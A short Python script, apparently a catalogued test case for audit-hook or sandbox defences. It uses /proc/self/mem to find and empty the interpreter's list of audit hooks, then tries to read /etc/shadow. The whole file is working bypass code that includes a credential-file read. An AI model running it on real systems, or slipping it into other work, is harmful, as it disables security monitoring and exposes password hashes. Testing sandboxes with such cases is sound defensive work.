# technique: finds the list of audit hooks in the interpreter's memory, which gc does not show, and empties it
# source: "Bypassing Python audit hooks" (CTF write-ups), Python/sysmodule.c
# verdict: WA
# invariant: without any hook the program can do no more than with them
# without: seccomp capabilities network read_only_root
import ctypes, struct, sys

heard = []
sys.addaudithook(lambda event, arguments: heard.append(event))
memory = open("/proc/self/mem", "r+b", buffering=0)

def words(address, count):
    try:
        memory.seek(address)
        return struct.unpack(f"<{count}Q", memory.read(8 * count))
    except (OSError, OverflowError, ValueError, struct.error):
        return (0,) * count

ctypes.pythonapi.PyInterpreterState_Get.restype = ctypes.c_void_p
interpreter = ctypes.pythonapi.PyInterpreterState_Get()
emptied = 0
for offset in range(0, 40000, 8):
    pointer = words(interpreter + offset, 1)[0]
    if 4096 < pointer < 1 << 47 and words(pointer + 8, 2) == (id(list), 1):
        memory.seek(pointer + 16)
        emptied += memory.write(bytes(8)) > 0
before = len(heard)
try:
    print("ESCAPED", open("/etc/shadow").read())
except OSError as refused:
    print("held", refused, emptied, "lists emptied, the hook is", "deaf" if len(heard) == before else "not deaf")
